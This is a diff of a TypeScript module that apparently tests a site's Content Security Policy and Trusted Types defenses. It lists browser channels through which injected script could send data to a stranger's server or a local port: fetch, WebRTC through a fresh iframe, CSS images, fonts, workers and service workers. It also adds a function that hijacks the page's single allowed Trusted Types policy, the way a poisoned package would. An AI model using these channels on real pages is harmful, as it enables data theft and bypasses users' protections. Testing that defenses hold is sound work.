@@ -1,18 +1,37 @@
-declare const trustedTypes:
-  | {
-      createPolicy(
-        name: string,
-        rules: { createScriptURL(url: string): string },
-      ): { createScriptURL(url: string): unknown };
-    }
-  | undefined;
+/** A way out, as a script that has got into our page would try it: inside the browser, with nothing from outside. */
+type Channel = (target: { at: string; port: number }) => unknown;
+
+/** What a stranger's script that came before ours has taken for itself: the one policy that our headers allow. */
+declare const taken: { createScriptURL(url: string): string };
+
+/** Runs before every script of the page, as a poisoned package would that is bundled first. */
+export function takePolicy() {
+  interface Factory {
+    createPolicy(name: string, rules: { createScriptURL(url: string): string }): typeof taken;
+  }
+  const { trustedTypes } = window as { trustedTypes?: Factory };
+  const rules = { createScriptURL: (url: string) => url };
+  Object.assign(window, { taken: trustedTypes?.createPolicy('app-sw', rules) ?? rules });
+}
+
+/** Those that take the page away, cover it, or change what it may: each needs a page of its own. */
+export const alone: ReadonlySet<string> = new Set([
+  'form',
+  'another address',
+  'another address in place of ours',
+  'a link that is clicked',
+  'a link that is downloaded',
+  'a refresh by meta',
+  'a new window',
+  'a report of the browser',
+]);
 
 /**
  * Every way out of a page that we know, as a script that has got into our page would try it. `at` is the
  * stranger's server and `port` its port; what these write into the address is what they would carry away.
  * Each runs inside the browser, so it may use nothing from outside of itself.
  */
-export const channels: Record<string, (target: { at: string; port: number }) => unknown> = {
+export const channels: Record<string, Channel> = {
   fetch: ({ at }) => fetch(`${at}/fetch`),
   'fetch without CORS': ({ at }) => fetch(`${at}/fetch`, { mode: 'no-cors', keepalive: true }),
   XMLHttpRequest: ({ at }) => {
@@ -26,6 +45,14 @@ export const channels: Record<string, (target: { at: string; port: number }) => 
   WebTransport: ({ port }) => new WebTransport(`https://127.0.0.1:${port}/transport`).ready.catch(() => 0),
   'WebRTC by STUN': async ({ port }) => {
     const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
+    peer.createDataChannel('answers');
+    await peer.setLocalDescription(await peer.createOffer());
+  },
+  'WebRTC out of an empty frame': async ({ port }) => {
+    const frame = document.createElement('iframe');
+    document.body.append(frame);
+    const { RTCPeerConnection: Peer } = frame.contentWindow as unknown as typeof globalThis;
+    const peer = new Peer({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
     peer.createDataChannel('answers');
     await peer.setLocalDescription(await peer.createOffer());
   },
@@ -79,20 +106,15 @@ export const channels: Record<string, (target: { at: string; port: number }) => 
     document.body.style.backgroundImage = `url(${at}/background)`;
   },
   'style of an attribute': ({ at }) => {
-    document.body.setAttribute('style', `background-image: url(${at}/attribute)`);
+    document.documentElement.setAttribute('style', `background-image: url(${at}/attribute)`);
   },
   'rule put into our own stylesheet': ({ at }) => {
-    document.styleSheets[0]?.insertRule(`body { background-image: url(${at}/rule) !important; }`);
+    document.styleSheets[0]?.insertRule(`main { background-image: url(${at}/rule) !important; }`);
   },
   font: ({ at }) => new FontFace('Stranger', `url(${at}/font)`).load().catch(() => 0),
   script: ({ at }) => {
     const script = document.createElement('script');
-    const allow = (policy: string) =>
-      typeof trustedTypes === 'undefined'
-        ? undefined
-        : trustedTypes.createPolicy(policy, { createScriptURL: (url) => url });
-    // The one policy that our own headers allow, as somebody who has read them would use it.
-    script.src = `${allow('app-sw')?.createScriptURL(`${at}/script`) ?? `${at}/script`}`;
+    script.src = taken.createScriptURL(`${at}/script`);
     document.head.append(script);
   },
   'script of a module': ({ at }) => import(/* @vite-ignore */ `${at}/module`).catch(() => 0),
@@ -218,28 +240,14 @@ export const channels: Record<string, (target: { at: string; port: number }) => 
   },
   'a new window': ({ at }) => window.open(`${at}/window`),
   'a worker that asks': ({ at }) => {
-    const allow = (policy: string) =>
-      typeof trustedTypes === 'undefined'
-        ? undefined
-        : trustedTypes.createPolicy(policy, { createScriptURL: (url) => url });
-    const path = `/stranger.js#${at}/worker`;
-    new Worker(`${allow('app-sw')?.createScriptURL(path) ?? path}`);
+    new Worker(taken.createScriptURL(`/stranger.js#${at}/worker`));
   },
   'a worker out of thin air': ({ at }) => {
-    const allow = (policy: string) =>
-      typeof trustedTypes === 'undefined'
-        ? undefined
-        : trustedTypes.createPolicy(policy, { createScriptURL: (url) => url });
     const path = URL.createObjectURL(new Blob([`importScripts('${at}/blob')`]));
-    new Worker(`${allow('app-sw')?.createScriptURL(path) ?? path}`);
+    new Worker(taken.createScriptURL(path));
   },
   'a service worker that asks': ({ at }) => {
-    const allow = (policy: string) =>
-      typeof trustedTypes === 'undefined'
-        ? undefined
-        : trustedTypes.createPolicy(policy, { createScriptURL: (url) => url });
-    const path = `/stranger.js?${at}/service-worker`;
-    return navigator.serviceWorker.register(`${allow('app-sw')?.createScriptURL(path) ?? path}`);
+    return navigator.serviceWorker.register(taken.createScriptURL(`/stranger.js?${at}/service-worker`));
   },
   'a report of the browser': ({ at }) => {
     const meta = document.createElement('meta');
